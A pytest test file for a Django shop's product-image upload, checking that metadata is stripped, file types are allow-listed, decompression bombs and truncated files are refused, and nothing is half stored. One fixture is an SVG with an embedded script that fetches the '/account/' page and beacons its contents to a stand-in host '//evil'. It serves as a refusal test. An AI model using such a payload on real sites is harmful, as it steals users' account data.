"""Product pictures: only real JPEG/PNG/WebP, bounded, re-encoded without metadata, nothing half
stored."""

import io

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image

from pledge.shop.catalogue import product_image_set
from pledge.shop.images import MAX_DIMENSION, ImageRefused, image_ingest
from pledge.shop.models import Product

from .catalogue_factories import BOTH, catalogue_runtime, image_bytes, product_make  # noqa: F401

pytestmark = [
    pytest.mark.django_db(databases=BOTH),
    pytest.mark.usefixtures("catalogue_runtime"),
]


@pytest.fixture(autouse=True)
def english(catalogue_runtime):  # noqa: F811
    # The refusals are shown to staff in their language; these tests read the English ones.
    with translation.override("en"):
        yield


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<script>fetch('/account/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>
<rect width="10" height="10"/></svg>"""


def upload(content: bytes, name="foto.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg_with_gps() -> bytes:
    image = Image.new("RGB", (800, 600), (30, 120, 200))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Pixeljet test camera"
    exif[ExifTags.Base.Artist] = "Sanne de Vries"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 1.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 2.5)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def bilevel_png(width: int, height: int) -> bytes:
    """A black-and-white PNG: one bit a pixel, so even a huge one is cheap to make."""
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def stored_files() -> list[str]:
    if not default_storage.exists("products"):
        return []
    return default_storage.listdir("products")[1]


def test_a_photo_with_gps_in_its_exif_is_stored_without_any_exif():
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # it has GPS
    product = product_make(slug="canvas")
    name = product_image_set(product_id=product.pk, upload=upload(original))
    with default_storage.open(name) as stored:
        raw = stored.read()
    picture = Image.open(io.BytesIO(raw))
    assert picture.format == "WEBP"
    assert not picture.getexif()
    assert "exif" not in picture.info and "xmp" not in picture.info
    assert b"Exif" not in raw and b"Sanne" not in raw and b"Pixeljet test camera" not in raw
    assert Product.objects.get(pk=product.pk).image.name == name


def test_the_stored_name_is_our_own_not_the_uploaders():
    product = product_make(slug="canvas")
    name = product_image_set(
        product_id=product.pk, upload=upload(image_bytes(), name="sanne-de-vries-thuis.jpg")
    )
    assert name.startswith("products/canvas-") and name.endswith(".webp")
    assert "sanne" not in name


def test_an_svg_is_refused_with_a_clear_message_and_nothing_is_stored():
    product = product_make(slug="canvas")
    with pytest.raises(ImageRefused) as refusal:
        product_image_set(
            product_id=product.pk, upload=upload(SVG, "logo.svg", content_type="image/svg+xml")
        )
    assert "SVG" in refusal.value.messages[0]
    assert "scripts" in refusal.value.messages[0]
    assert stored_files() == []
    assert not Product.objects.get(pk=product.pk).image


def test_an_svg_disguised_as_a_jpeg_is_refused_too():
    with pytest.raises(ImageRefused, match="SVG"):
        image_ingest(upload(b"  \n" + SVG, "photo.jpg"))


@pytest.mark.parametrize("fmt", ["GIF", "BMP", "TIFF"])
def test_formats_outside_the_allow_list_are_refused(fmt):
    with pytest.raises(ImageRefused, match="Only JPEG, PNG or WebP"):
        image_ingest(upload(image_bytes(fmt), f"picture.{fmt.lower()}"))


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    # 10,000 x 10,000 pixels that compress to a few kilobytes: 100 megapixels unpacked.
    bomb = bilevel_png(10_000, 10_000)
    assert len(bomb) < 1_000_000
    with pytest.raises(ImageRefused, match="40 megapixels"):
        image_ingest(upload(bomb, "bomb.png"))


def test_a_picture_just_over_the_pixel_limit_is_refused():
    with pytest.raises(ImageRefused, match="40 megapixels"):
        image_ingest(upload(bilevel_png(8000, 5001), "big.png"))


def test_a_truncated_file_is_refused_and_nothing_is_stored():
    product = product_make(slug="canvas")
    whole = jpeg_with_gps()
    for cut in (whole[: len(whole) // 2], whole[:200]):
        with pytest.raises(ImageRefused, match="damaged or incomplete"):
            product_image_set(product_id=product.pk, upload=upload(cut))
    truncated_png = image_bytes("PNG", size=(300, 300))[:-200]
    with pytest.raises(ImageRefused):
        image_ingest(upload(truncated_png, "cut.png"))
    assert stored_files() == []


def test_random_bytes_and_an_empty_file_are_refused():
    with pytest.raises(ImageRefused, match="Only JPEG, PNG or WebP"):
        image_ingest(upload(b"\x00\x01not an image at all" * 50))
    with pytest.raises(ImageRefused, match="empty"):
        image_ingest(upload(b""))


def test_a_file_over_the_size_cap_is_refused_unread(settings):
    big = upload(b"\xff\xd8" + b"\x00" * (10 * 1024 * 1024 + 1))
    with pytest.raises(ImageRefused, match="10 MB"):
        image_ingest(big)


def test_large_pictures_are_scaled_down_and_png_webp_are_accepted():
    picture = image_ingest(upload(image_bytes("PNG", size=(4000, 1000)), "wide.png"))
    assert (picture.width, picture.height) == (MAX_DIMENSION, 500)
    webp = image_ingest(upload(image_bytes("WEBP", size=(300, 200)), "small.webp"))
    assert (webp.width, webp.height) == (300, 200)


def test_a_transparent_png_keeps_its_transparency():
    image = Image.new("RGBA", (100, 100), (255, 0, 0, 0))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    picture = image_ingest(upload(buffer.getvalue(), "clear.png"))
    assert Image.open(io.BytesIO(picture.content)).mode == "RGBA"


def test_a_photo_taken_sideways_is_stored_upright():
    image = Image.new("RGB", (600, 400), (10, 10, 10))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # "rotate 90 degrees to display"
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif)
    picture = image_ingest(upload(buffer.getvalue()))
    assert (picture.width, picture.height) == (400, 600)


def test_a_new_picture_replaces_the_old_file(django_capture_on_commit_callbacks):
    product = product_make(slug="canvas")
    first = product_image_set(product_id=product.pk, upload=upload(image_bytes()))
    with django_capture_on_commit_callbacks(execute=True):
        second = product_image_set(
            product_id=product.pk, upload=upload(image_bytes(colour=(0, 0, 0)))
        )
    assert stored_files() == [second.removeprefix("products/")]
    assert not default_storage.exists(first)


def test_a_failed_database_write_leaves_no_file_behind(monkeypatch):
    product = product_make(slug="canvas")

    def broken_save(self, *args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(Product, "save", broken_save)
    with pytest.raises(RuntimeError):
        product_image_set(product_id=product.pk, upload=upload(image_bytes()))
    assert stored_files() == []
